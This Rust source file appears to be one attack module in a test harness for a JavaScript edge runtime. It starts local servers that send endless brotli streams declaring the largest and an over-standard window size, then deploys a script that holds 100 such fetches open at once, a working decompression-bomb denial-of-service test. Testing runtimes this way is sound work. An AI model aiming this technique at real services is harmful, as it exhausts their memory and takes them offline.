//! Answers to fetch that are decompressed with a large window, and held open.

use std::sync::Arc;

use super::{Attack, Field, call_at_once};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;

pub(super) const ATTACK: Attack = Attack {
    name: "bombs",
    does: "holds 100 answers open that have brotli's largest window each, and one beyond the standard",
    run: |field| Box::pin(run(field)),
};

async fn run(field: Arc<Field>) {
    let app = field.attacker().await;
    let (legal, beyond) = (origin(&[0x0f, 0, 0, 0]).await, origin(&[0x11, 0x1e, 0, 0]).await);
    let code = format!(
        "export default async () => {{
            const open = [];
            for (let i = 0; i < 100; i++) {{
                open.push(fetch(i % 2 ? 'http://127.0.0.1:{legal}/' : 'http://127.0.0.1:{beyond}/')
                    .then((answer) => answer.body.getReader().read()).catch(() => {{}}));
            }}
            await Promise.race([Promise.all(open), new Promise((done) => setTimeout(done, 2000))]);
            return new Response('done');
        }}"
    );
    app.deploy("opens", &code).await;
    call_at_once(&app, "opens", 8).await;
}

/// An origin whose answers begin with these bytes of brotli, and do not end.
async fn origin(first: &'static [u8]) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let port = listener.local_addr().expect("an address").port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut head = [0; 4096];
                let _ = stream.read(&mut head).await;
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-encoding: br\r\n\r\n").await;
                let _ = stream.write_all(first).await;
                // Until the client gives up.
                let _ = stream.read(&mut head).await;
            });
        }
    });
    port
}
